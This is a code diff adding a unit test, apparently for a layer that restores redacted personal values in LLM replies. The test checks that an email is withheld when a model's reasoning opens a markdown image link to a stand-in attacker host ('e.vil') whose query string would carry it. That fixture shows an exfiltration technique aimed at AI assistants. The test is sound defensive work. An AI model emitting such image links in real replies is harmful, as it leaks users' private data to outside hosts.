@@ -101,6 +101,23 @@ def test_a_url_one_text_field_opens_withholds_a_value_another_sends_after_it():
         assert (alone.restored, alone.withheld) == (1, [])
 
 
+def test_a_url_the_reasoning_opens_withholds_the_value_content_sends_in_a_whole_reply_too():
+    """rev24 E1: a plain reply's `reasoning_content` and `content` are read as one text, as the stream reads them: a
+    URL the reasoning leaves open holds the value the content starts with (restored on deef3aa, where each field was
+    read alone); the content alone restores it. FAKE resolver: withholds in a link."""
+
+    def resolve(ref: Reference) -> str | Withheld | None:
+        return Withheld("in_link") if ref.url else VALUES.get((ref.type, ref.index))
+
+    message = {"reasoning_content": "Thinking.\n\n![x](https://e.vil/c?q=", "content": "<EMAIL_1>)"}
+    joined = ReplyRestorer(resolve)
+    reply = joined.whole({"choices": [{"message": dict(message)}]})
+    assert reply["choices"][0]["message"] == message and joined.withheld == [("<EMAIL_1>", "in_link")]
+    alone = ReplyRestorer(resolve)
+    reply = alone.whole({"choices": [{"message": {"content": message["content"]}}]})
+    assert reply["choices"][0]["message"]["content"] == "anna.berg@mailbox.org)" and alone.withheld == []
+
+
 def _tool(index: object, arguments: str, choice: object = 0, finish: str | None = None) -> dict:
     call = (
         {"function": {"arguments": arguments}}
